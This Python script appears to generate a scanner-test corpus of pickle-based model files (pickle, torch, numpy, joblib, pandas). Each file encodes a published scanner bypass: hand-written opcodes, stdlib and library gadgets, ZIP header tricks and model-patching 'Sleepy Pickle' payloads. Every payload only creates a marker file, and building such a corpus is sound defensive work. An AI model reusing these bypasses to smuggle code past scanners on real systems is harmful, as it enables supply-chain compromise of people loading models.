"""Writes Brine's verified malicious corpus: one or more files per published scanner bypass, each checked here to
really run its payload under the loader it targets.

Usage: /usr/bin/python3 scan_malicious.py OUT_DIR   (Debian's python3 with torch 1.13, joblib, numpy, pandas, and
       python3-pip, python3-lib2to3, python3-setuptools for three of the gadgets; tools/test installs them)

Every payload is harmless: it creates the file `brine_pwned` in the current directory (by a shell `touch`, by
Python's `open`, or by a library that writes a log file). Each sample is loaded in a fresh interpreter whose working
directory is a new scratch directory, with a timeout, by its real loader (`pickle.load`, `torch.load(weights_only=
False)`, `joblib.load`, `np.load(allow_pickle=True)` or `pandas.read_pickle`); it is kept only if the marker file
appears. A sample that does not run its payload under its loader is not malicious: the script then exits non-zero
naming it, so the test that uses this corpus fails instead of counting it.

OUT_DIR/manifest.json lists {"file", "loader", "class", "source"}: the bypass class and the advisory or report it
comes from. Nothing is copied from those reports; each sample is built here from the class's description.
"""
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib

warnings.simplefilter("ignore")

import numpy as np
import pandas as pd
import torch
import joblib

OUT = sys.argv[1]
MARKER = "brine_pwned"
SHELL = "touch " + MARKER
PY = "open(%r, 'w').close()" % MARKER
SAMPLES = []

LOADERS = {
    "pickle": "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))",
    # an application that reads every pickle of a stream, as repeated pickle.load calls do
    "pickle-stream": "import pickle, sys\nf = open(sys.argv[1], 'rb')\nwhile True:\n    pickle.load(f)",
    "torch": "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)",
    "joblib": "import sys, joblib\njoblib.load(sys.argv[1])",
    "numpy": ("import sys, numpy as np\nd = np.load(sys.argv[1], allow_pickle=True)\n"
              "if hasattr(d, 'files'):\n    [d[k] for k in d.files]"),
    "pandas": "import sys, pandas as pd\npd.read_pickle(sys.argv[1])",
}


# ---- opcodes by hand ----------------------------------------------------------------------------------------

def u(s):
    """BINUNICODE."""
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def lit(value):
    """A value's opcodes at protocol 2 without memo (no PUT, so nothing clashes with hand-written GETs)."""
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value       # BINBYTES, which every protocol-3+ reader reads
    buf = io.BytesIO()
    p = pickle._Pickler(buf, 2)
    p.fast = True
    p.dump(value)
    return buf.getvalue()[2:-1]


def g0(module, name):
    """GLOBAL (protocol 0 to 2)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    """STACK_GLOBAL (protocol 4: a dotted name is walked attribute by attribute)."""
    return u(module) + u(name) + b"\x93"


def call(func, *args):
    """func(*args): MARK, args, TUPLE, REDUCE. An argument given as bytes is opcodes already (wrap data in lit)."""
    return func + b"(" + b"".join(a if isinstance(a, bytes) else lit(a) for a in args) + b"tR"


def p2(body):
    return b"\x80\x02" + body + b"."


def p4(body):
    return b"\x80\x04" + body + b"."


class Reduce:
    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def add(name, data, loader, cls, source):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    SAMPLES.append({"file": name, "loader": loader, "class": cls, "source": source})


# ---- real files to hide payloads in --------------------------------------------------------------------------

def torch_bytes(obj, **kw):
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


STATE = {"weight": torch.arange(4.0), "bias": torch.zeros(1)}
REAL_ZIP = torch_bytes(STATE)


def zip_members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def rezip(members, method=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, content in members:
            z.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return buf.getvalue()


def data_pkl_name(members):
    return next(n for n, _ in members if n.endswith("/data.pkl"))


def inject(pickled, payload_body):
    """The payload call, POPped, then the original pickle's body: the model still loads after the payload ran."""
    assert pickled[:2] in (b"\x80\x02", b"\x80\x03", b"\x80\x04")
    return pickled[:2] + payload_body + b"0" + pickled[2:]


def torch_with(payload_body, **zip_kw):
    members = zip_members(REAL_ZIP)
    return rezip([(n, inject(c, payload_body) if n.endswith("/data.pkl") else c) for n, c in members], **zip_kw)


def patch_zip_header_fields(data, entry, fn):
    """Calls fn(data, offset_of_local_header, offset_of_central_record) for the named entry; returns new bytes."""
    b = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(entry)
        local = info.header_offset
    end = data.rindex(b"PK\x05\x06")
    cd = struct.unpack_from("<I", data, end + 16)[0]
    p = cd
    central = None
    while data[p:p + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", data, p + 28)
        if data[p + 46:p + 46 + n].decode() == entry:
            central = p
            break
        p += 46 + n + e + c
    fn(b, local, central)
    return bytes(b)


SYSTEM = call(g0("os", "system"), SHELL)                   # os.system pickles as posix.system; this is the source name
EXEC = call(g0("builtins", "exec"), PY)


def build():
    # ---- the plain classes: what every scanner must catch ----
    add("reduce_os_system.p0.pkl", pickle.dumps(Reduce(os.system, SHELL), 0), "pickle", "plain __reduce__", "baseline")
    add("reduce_os_system.p4.pkl", pickle.dumps(Reduce(os.system, SHELL), 4), "pickle", "plain __reduce__", "baseline")
    add("builtins_exec.pkl", p2(EXEC), "pickle", "plain __reduce__", "baseline")
    add("subprocess_popen.pkl", pickle.dumps(Reduce(subprocess.Popen, ["touch", MARKER]), 2), "pickle",
        "plain __reduce__", "baseline")

    # ---- how a name is spelt ----
    memo = (b"\x80\x04" + u("decoy") + b"\x94" + u("os") + b"\x94" + u("system") + b"\x94" + b"0"
            + b"h\x01h\x02\x93" + u(SHELL) + b"\x85R.")
    add("memo_stack_global.pkl", memo, "pickle", "STACK_GLOBAL fed from the memo", "picklescan GHSA (memo)")
    add("string_names.pkl", b"\x80\x04S'subprocess'\nU\x09getoutput\x93" + u(SHELL) + b"\x85R.", "pickle",
        "STRING names feeding STACK_GLOBAL", "fickling / picklescan reports")
    add("dotted_pathlib_os.pkl", p4(call(sg("pathlib", "os.system"), SHELL)), "pickle",
        "dotted name through another module", "JFrog CVE-2025-10157 class")
    add("dotted_shutil_os.pkl", p4(call(sg("shutil", "os.system"), SHELL)), "pickle",
        "dotted name through another module", "JFrog CVE-2025-10157 class")
    add("compat_builtin_eval.pkl", p2(call(g0("__builtin__", "eval"), PY)), "pickle", "_compat_pickle names",
        "picklescan GHSA (compat names)")
    add("compat_commands.pkl", p2(call(g0("commands", "getoutput"), SHELL)), "pickle", "_compat_pickle names",
        "picklescan GHSA (compat names)")
    add("getattr_import.pkl",
        p2(call(call(g0("builtins", "getattr"), call(g0("builtins", "__import__"), "os"), "system"), SHELL)),
        "pickle", "getattr on an imported module", "modelscan / fickling reports")
    add("pkgutil_resolve_name.pkl", p2(call(call(g0("pkgutil", "resolve_name"), "os:system"), SHELL)), "pickle",
        "pkgutil.resolve_name", "picklescan GHSA (resolve_name)")
    add("logging_config_resolve.pkl", p2(call(call(g0("logging.config", "_resolve"), "os.system"), SHELL)),
        "pickle", "logging.config._resolve", "picklescan GHSA")
    add("popped_call.pkl", p2(SYSTEM + b"0" + lit({"ok": 1})), "pickle", "call whose result is POPped",
        "fickling report (POP hides the call)")

    add("posix_system.pkl", p2(call(g0("posix", "system"), SHELL)), "pickle", "alias spelling (posix for os)",
        "picklescan GHSA (posix/nt)")
    # Calls without REDUCE: INST and OBJ call any callable with the arguments after the MARK.
    add("inst_opcode.pkl", b"(" + lit(SHELL) + b"ios\nsystem\n.", "pickle", "call by INST",
        "fickling report (INST/OBJ)")
    add("obj_opcode.pkl", b"\x80\x02(" + g0("os", "system") + lit(SHELL) + b"o.", "pickle", "call by OBJ",
        "fickling report (INST/OBJ)")
    # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): the class is only imported here.
    add("reconstructor_popen.pkl",
        p2(call(g0("copyreg", "_reconstructor"), g0("subprocess", "Popen"), g0("subprocess", "Popen"),
                ["touch", MARKER])), "pickle", "constructor run by copyreg._reconstructor", "modelscan report")
    add("reconstructor_filehandler.pkl",
        p2(call(g0("copyreg", "_reconstructor"), g0("logging", "FileHandler"), g0("logging", "FileHandler"),
                MARKER)), "pickle", "constructor run by copyreg._reconstructor", "modelscan report")
    add("protocol5_framed.pkl", pickle.dumps([Reduce(os.system, SHELL), "x" * 100000], 5), "pickle",
        "protocol 5 with frames", "baseline")

    # ---- stdlib gadgets that run code without os/subprocess in their name ----
    add("pydoc_pipepager.pkl", p2(call(g0("pydoc", "pipepager"), "", SHELL)), "pickle", "stdlib gadget",
        "picklescan GHSA (pydoc)")
    add("bdb_run.pkl", p4(call(sg("bdb", "Bdb.run"), call(sg("bdb", "Bdb")), PY)), "pickle", "stdlib gadget",
        "picklescan GHSA (bdb)")
    add("timeit_setup.pkl", p2(call(g0("timeit", "timeit"), "", PY)), "pickle", "stdlib gadget",
        "picklescan GHSA (timeit)")
    add("cprofile_run.pkl", p2(call(g0("cProfile", "run"), PY)), "pickle", "stdlib gadget",
        "picklescan GHSA (cProfile)")
    add("profile_run.pkl", p2(call(g0("profile", "run"), PY)), "pickle", "stdlib gadget", "picklescan GHSA (profile)")
    add("code_runsource.pkl",
        p4(call(sg("code", "InteractiveInterpreter.runsource"), call(sg("code", "InteractiveInterpreter")), PY)),
        "pickle", "stdlib gadget", "picklescan GHSA (code)")
    add("runpy_run_code.pkl", p2(call(g0("runpy", "_run_code"), PY, {})), "pickle", "stdlib gadget", "modelscan report")
    add("pip_main_log.pkl",
        p2(call(g0("pip", "main"), ["list", "--disable-pip-version-check", "--log", MARKER])),
        "pickle", "pip.main", "Sonatype CVE-2025-1716")
    add("uuid_command.pkl", p2(call(g0("uuid", "_get_command_stdout"), "touch", MARKER)), "pickle",
        "stdlib gadget", "picklescan GHSA (uuid)")
    add("osx_support_read_output.pkl", p2(call(g0("_osx_support", "_read_output"), SHELL)), "pickle",
        "stdlib gadget", "picklescan GHSA (_osx_support)")
    add("imaplib_stream.pkl", p2(call(g0("imaplib", "IMAP4_stream"), SHELL)), "pickle", "stdlib gadget",
        "picklescan GHSA (imaplib)")
    add("distutils_spawn.pkl", p2(call(g0("distutils.spawn", "spawn"), ["touch", MARKER])), "pickle",
        "stdlib gadget", "picklescan GHSA (distutils)")
    add("lib2to3_make_label.pkl",
        p4(call(sg("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None,
                call(sg("lib2to3.pgen2.grammar", "Grammar")), "''+str(%s)" % PY)),
        "pickle", "stdlib gadget", "picklescan GHSA (lib2to3)")
    add("xxsubinterpreters_run_string.pkl",
        p2(call(g0("_xxsubinterpreters", "run_string"), call(g0("_xxsubinterpreters", "create")), PY)),
        "pickle", "stdlib gadget", "picklescan GHSA (_xxsubinterpreters)")
    add("typing_forwardref.pkl",
        p4(call(sg("typing", "ForwardRef._evaluate"), call(sg("typing", "ForwardRef"), PY), None, None, ())),
        "pickle", "stdlib gadget", "picklescan GHSA (typing)")
    add("dataclasses_create_fn.pkl",
        p2(call(g0("dataclasses", "_create_fn"), "f", ["x=%s" % PY], ["pass"])), "pickle", "stdlib gadget",
        "picklescan GHSA (dataclasses)")
    template = sg("pipes", "Template") + b")\x81" + lit({"debugging": 0, "steps": [(SHELL, "--")]}) + b"b"
    add("pipes_template.pkl", p4(call(sg("pipes", "Template.open"), template, "brine_out", "w")), "pickle",
        "stdlib gadget", "picklescan GHSA (pipes)")
    add("logging_file_handler.pkl", p2(call(g0("logging.handlers", "RotatingFileHandler"), MARKER)), "pickle",
        "file-writing class", "picklescan GHSA (logging handlers)")
    add("logging_filehandler.pkl", p2(call(g0("logging", "FileHandler"), MARKER)), "pickle", "file-writing class",
        "picklescan GHSA (logging handlers)")

    add("asyncio_subprocess_shell.pkl",
        p2(call(g0("asyncio", "run"), call(g0("asyncio", "create_subprocess_shell"), SHELL))), "pickle",
        "stdlib gadget", "picklescan GHSA (asyncio)")
    add("asyncio_submodule_exec.pkl",
        p2(call(g0("asyncio.runners", "run"), call(g0("asyncio.subprocess", "create_subprocess_exec"), "touch",
                                                    MARKER))), "pickle", "submodule of an unsafe module",
        "JFrog CVE-2025-10157")

    # ---- library gadgets ----
    add("numpy_runstring.pkl", p2(call(g0("numpy.testing._private.utils", "runstring"), PY, {})), "pickle",
        "library gadget", "picklescan GHSA (numpy runstring)")
    add("torch_bottleneck.pkl", p2(call(g0("torch.utils.bottleneck.__main__", "run_cprofile"), PY, {})), "pickle",
        "library gadget", "picklescan GHSA (torch bottleneck)")
    add("torch_exec_wrapper.pkl", p2(call(g0("torch.jit.unsupported_tensor_ops", "execWrapper"), PY, {}, {})),
        "pickle", "library gadget", "picklescan GHSA (torch.jit)")
    add("torch_fx_graph_module.pkl",
        p2(call(g0("torch.fx.graph_module", "reduce_graph_module"), {"code": "\ndef forward(self):\n    pass\n"},
                PY + "\n")), "pickle", "library gadget", "picklescan GHSA (torch.fx)")

    # ---- nested pickles ----
    inner = p2(SYSTEM)
    add("nested_pickle_loads.pkl", p2(call(g0("pickle", "loads"), lit(inner))), "pickle", "nested loader",
        "modelscan report")
    add("nested_underscore_loads.pkl", p2(call(g0("_pickle", "loads"), lit(inner))), "pickle", "nested loader",
        "modelscan report")
    add("nested_torch_load_bytesio.pkl",
        p2(call(g0("torch", "load"), call(g0("_io", "BytesIO"), lit(torch_with(SYSTEM))))), "pickle", "nested loader",
        "modelscan report")

    # ---- streams that break after the payload, and later pickles ----
    add("broken_after_payload.pkl", pickle.dumps(Reduce(os.system, SHELL), 2)[:-1] + b"\x94\x94\x02\x03", "pickle",
        "broken stream after the payload", "picklescan GHSA (parse error hides findings)")
    add("truncated_after_payload.pkl", pickle.dumps([Reduce(os.system, SHELL), "x" * 50], 2)[:-20], "pickle",
        "broken stream after the payload", "picklescan GHSA (parse error hides findings)")
    add("second_pickle.pkl", pickle.dumps({"ok": 1}, 2) + pickle.dumps(Reduce(os.system, SHELL), 2),
        "pickle-stream", "payload in a later pickle", "picklescan GHSA (multiple pickles)")

    # ---- "Sleepy Pickle": the payload patches the model it ships with ----
    patch = (PY + "\nimport torch.nn.modules.linear as l\n"
             "l.Linear.forward = lambda self, x: x * 0\n")
    model = torch.nn.Sequential(torch.nn.Linear(2, 2))
    add("sleepy_exec_module.pt", rezip([(n, inject(c, call(g0("builtins", "exec"), patch)) if n.endswith("/data.pkl") else c)
               for n, c in zip_members(torch_bytes(model))]), "torch", "Sleepy Pickle (exec patches the model)",
        "Trail of Bits, Sleepy Pickle")
    # BUILD on a global: setattr on a module by slot state, no call at all (relu becomes relu6 for every model
    # loaded afterwards). The check below sees the patch.
    build_on_global = (g0("torch.nn", "functional") + b"N(" + u("relu") + g0("torch.nn.functional", "relu6")
                       + b"d\x86b")
    add("sleepy_build_global.pt",
        rezip([(n, inject(c, build_on_global) if n.endswith("/data.pkl") else c)
               for n, c in zip_members(torch_bytes(model))]), "torch+check-patch",
        "Sleepy Pickle (BUILD on a global)", "Trail of Bits, Sleepy Pickle")

    # ---- torch containers ----
    add("torch_zip_payload.pt", torch_with(SYSTEM), "torch", "payload in data.pkl", "baseline")
    add("torch_zip_deflated.pt", torch_with(SYSTEM, method=zipfile.ZIP_DEFLATED), "torch",
        "payload in data.pkl (deflated member)", "baseline")
    add("extension_mismatch.bin", p2(SYSTEM), "torch", "plain pickle under a model extension",
        "JFrog CVE-2025-10155")
    add("extension_mismatch.pth", pickle.dumps(Reduce(os.system, SHELL), 2), "torch",
        "plain pickle under a model extension", "JFrog CVE-2025-10155")
    add("nonstandard_extension.weights", torch_with(SYSTEM), "torch", "torch ZIP under a non-standard extension",
        "Sonatype CVE-2025-1889")

    good = torch_with(SYSTEM)
    name = data_pkl_name(zip_members(good))

    def bad_crc(b, local, central):
        struct.pack_into("<I", b, local + 14, struct.unpack_from("<I", b, local + 14)[0] ^ 0xdeadbeef)
        struct.pack_into("<I", b, central + 16, struct.unpack_from("<I", b, central + 16)[0] ^ 0xdeadbeef)
    add("zip_bad_crc.pt", patch_zip_header_fields(good, name, bad_crc), "torch", "ZIP with a bad CRC",
        "JFrog CVE-2025-10156")

    # Flag bits that directory readers (zipfile, torch) ignore where they are set, and streaming readers obey:
    # "encrypted" in the local header only, "sizes in a data descriptor" with no descriptor.
    def encrypted_local(b, local, central):
        struct.pack_into("<H", b, local + 6, struct.unpack_from("<H", b, local + 6)[0] | 0x1)
    add("zip_encrypted_flag_local.pt", patch_zip_header_fields(good, name, encrypted_local), "torch",
        "ZIP flag bits (encrypted, local header)", "Sonatype CVE-2025-1945")

    def descriptor_flag(b, local, central):
        for at, off in ((local, 6), (central, 8)):
            struct.pack_into("<H", b, at + off, struct.unpack_from("<H", b, at + off)[0] | 0x8)
    add("zip_descriptor_flag.pt", patch_zip_header_fields(good, name, descriptor_flag), "torch",
        "ZIP flag bits (data descriptor)", "Sonatype CVE-2025-1945")

    def utf8_flag(b, local, central):
        struct.pack_into("<H", b, local + 6, struct.unpack_from("<H", b, local + 6)[0] | 0x800)
    add("zip_utf8_flag_mismatch.pt", patch_zip_header_fields(good, name, utf8_flag), "torch",
        "ZIP flag bits (UTF-8 flag differs)", "Sonatype CVE-2025-1945")

    def local_name(b, local, central):
        n = struct.unpack_from("<H", b, local + 26)[0]
        b[local + 30 + n - 1:local + 30 + n] = b"_"        # archive/data.pk_ in the local header only
    add("zip_local_name_mismatch.pt", patch_zip_header_fields(good, name, local_name), "torch",
        "ZIP local/central name mismatch", "Sonatype CVE-2025-1944")

    # (torch 1.13 loads neither a ZIP with data before it nor the evil one of two data.pkl entries: no samples.)

    # torch's legacy tar layout: torch.load tries tar first and loads the 'storages' member with pickle.
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for member, content in (("sys_info", pickle.dumps({"protocol_version": 1001}, 2)),
                                ("storages", p2(SYSTEM)), ("tensors", pickle.dumps(0, 2)),
                                ("pickle", pickle.dumps({}, 2))):
            info = tarfile.TarInfo(member)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    add("torch_legacy_tar.pt", tbuf.getvalue(), "torch", "legacy torch tar", "issue 21 (tar before legacy)")
    legacy = torch_bytes(STATE, _use_new_zipfile_serialization=False)
    add("torch_legacy_sysinfo.pt", legacy[:0] + p2(SYSTEM) + legacy, "torch", "legacy torch layout",
        "payload in the magic-number pickle")

    # ---- numpy ----
    def npy_object(payload):
        header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
    evil_npy = npy_object(p2(call(g0("builtins", "exec"), PY)))
    add("object_array.npy", evil_npy, "numpy", "npy object dtype", "baseline")
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3))
    plain = zip_members(buf.getvalue())
    add("npz_member_by_content.npz", rezip(plain + [("weights.bin", evil_npy)]), "numpy",
        "npz member read by content", "issue 21 (npz by content)")
    add("npz_deflated.npz", rezip(plain + [("b.npy", evil_npy)], zipfile.ZIP_DEFLATED), "numpy",
        "npz deflated member", "baseline")
    # zipfile keeps the last of two entries of one name: a scanner reading the first sees the benign one.
    add("npz_duplicate_name.npz", rezip(plain + [(plain[0][0], evil_npy)]), "numpy", "ZIP duplicate names",
        "picklescan GHSA (duplicate entries)")
    add("npz_lzma_member.npz", rezip(plain + [("b.npy", evil_npy)], zipfile.ZIP_LZMA), "numpy",
        "npz lzma member", "issue 21 (lzma in npz)")
    add("npy_as_pickle.npy", p2(SYSTEM), "numpy", "np.load falls back to pickle", "baseline")

    # ---- joblib ----
    evil_obj = Reduce(exec, PY)
    jdir = tempfile.mkdtemp()
    try:
        def jl(value, name, **kw):
            path = os.path.join(jdir, name)
            joblib.dump(value, path, **kw)
            with open(path, "rb") as f:
                return f.read()
        add("joblib_object_array.joblib", jl({"a": np.arange(3.0), "o": np.array([evil_obj], dtype=object)},
                                             "a.joblib"), "joblib", "joblib object array", "baseline")
        add("joblib_structured_object.joblib",
            jl({"a": np.arange(3.0), "s": np.array([(1, evil_obj)], dtype=[("i", "<i8"), ("o", "O")])},
               "b.joblib"), "joblib", "joblib structured dtype with an object field", "issue 21 (hasobject)")
        add("joblib_top_level.joblib", jl([np.arange(3.0), evil_obj], "c.joblib"), "joblib",
            "payload beside arrays", "baseline")
        for codec in ("zlib", "gzip", "bz2", "lzma", "xz"):
            add("joblib_%s.joblib" % codec, jl({"o": np.array([evil_obj], dtype=object)}, "d.joblib",
                                                compress=(codec, 3)), "joblib", "compressed joblib (%s)" % codec,
                "issue 21 (joblib compression)")
        # A float dtype whose pickled state carries the object flag: numpy restores the flags, so dtype.hasobject
        # is true and joblib unpickles the "float" array's bytes; a reader going by the type code skips them.
        raw = jl({"o": np.array([evil_obj], dtype=object)}, "f.joblib")
        at = raw.index(b"\x8c\x02O8")
        add("joblib_object_flag.joblib", raw[:at] + b"\x8c\x02f8" + raw[at + 4:], "joblib",
            "joblib float dtype with the object flag", "issue 21 (hasobject)")
        # A fixed-size dtype whose pickled state claims a bigger element: numpy ignores it, so the payload that
        # follows the real array bytes is unpickled; a reader trusting the state skips it as array data.
        raw = jl({"a": np.arange(4.0)}, "e.joblib")
        assert raw.count(b"J\xff\xff\xff\xffJ\xff\xff\xff\xff") == 1
        raw = raw.replace(b"J\xff\xff\xff\xffJ\xff\xff\xff\xff", b"J\x00\x01\x00\x00J\xff\xff\xff\xff")
        tail = raw.rindex(b".")
        add("joblib_elsize_lie.joblib", raw[:tail] + SYSTEM + b"0" + raw[tail:], "joblib",
            "joblib array sized from the pickled state", "issue 21 (element size)")
    finally:
        shutil.rmtree(jdir)

    # ---- pandas ----
    evil = pickle.dumps(Reduce(os.system, SHELL), 4)
    add("frame.pkl.gz", gzip.compress(evil), "pandas", "pandas gzip", "baseline")
    import bz2
    add("frame.pkl.bz2", bz2.compress(evil), "pandas", "pandas bz2", "issue 21 (pandas compression)")
    add("frame.pkl.xz", lzma.compress(evil), "pandas", "pandas xz", "issue 21 (pandas compression)")
    add("frame.pkl.zip", rezip([("notes.txt", evil)], zipfile.ZIP_DEFLATED), "pandas",
        "pandas zip, only member any name", "issue 21 (only member)")
    add("frame_prefixed.pkl.zip", b"MZ" + b"\0" * 100 + rezip([("frame.pkl", evil)]), "pandas",
        "pandas zip after other data", "issue 21 (zip at an offset)")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:") as tar:
        info = tarfile.TarInfo("readme.md")
        info.size = len(evil)
        tar.addfile(info, io.BytesIO(evil))
    add("frame.pkl.tar", tbuf.getvalue(), "pandas", "pandas tar, only member any name", "issue 21 (pandas tar)")
    frame = pickle.dumps(pd.DataFrame({"a": [1, 2]}), 4)
    add("frame_injected.pkl", inject(frame, SYSTEM), "pandas", "payload before a real DataFrame", "baseline")


CHECKS = {
    # the patch itself is the payload: seen after the load, the check writes the marker
    "torch+check-patch": "\nimport torch.nn.functional as F\nif F.relu is F.relu6:\n"
                         "    open('brine_pwned', 'w').close()\n",
}


def verify(sample):
    loader = sample["loader"]
    base = loader.split("+")[0]
    check = CHECKS.get(loader, "")
    script = ("import warnings; warnings.simplefilter('ignore')\ntry:\n"
              + "".join("    " + line + "\n" for line in LOADERS[base].splitlines())
              + "except BaseException:\n    pass\n" + check)
    scratch = tempfile.mkdtemp(prefix="brine-verify-")
    try:
        path = os.path.join(scratch, sample["file"])
        shutil.copyfile(os.path.join(OUT, sample["file"]), path)
        env = dict(os.environ, PYTHONDONTWRITEBYTECODE="1", PAGER="cat")
        try:
            subprocess.run([sys.executable, "-c", script, path], cwd=scratch, timeout=120, env=env,
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except subprocess.TimeoutExpired:
            return False
        # A payload may start a command it does not wait for (os.popen, asyncio): give it time to finish.
        for _ in range(100):
            if os.path.exists(os.path.join(scratch, MARKER)):
                return True
            time.sleep(0.1)
        return False
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def main():
    os.makedirs(OUT, exist_ok=True)
    build()
    failed = []
    for sample in SAMPLES:
        sample["verified"] = verify(sample)
        print(sample["file"], sample["loader"], "ran" if sample["verified"] else "DID NOT RUN")
        if not sample["verified"]:
            failed.append(sample["file"])
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(SAMPLES, f, indent=1)
    versions = {"python": sys.version.split()[0], "torch": torch.__version__, "numpy": np.__version__,
                "pandas": pd.__version__, "joblib": joblib.__version__}
    with open(os.path.join(OUT, "versions.json"), "w") as f:
        json.dump(versions, f)
    if failed and os.environ.get("BRINE_CORPUS_KEEP_FAILED") != "1":
        sys.exit("these samples do not run their payload under their loader: " + ", ".join(failed))


if __name__ == "__main__":
    main()
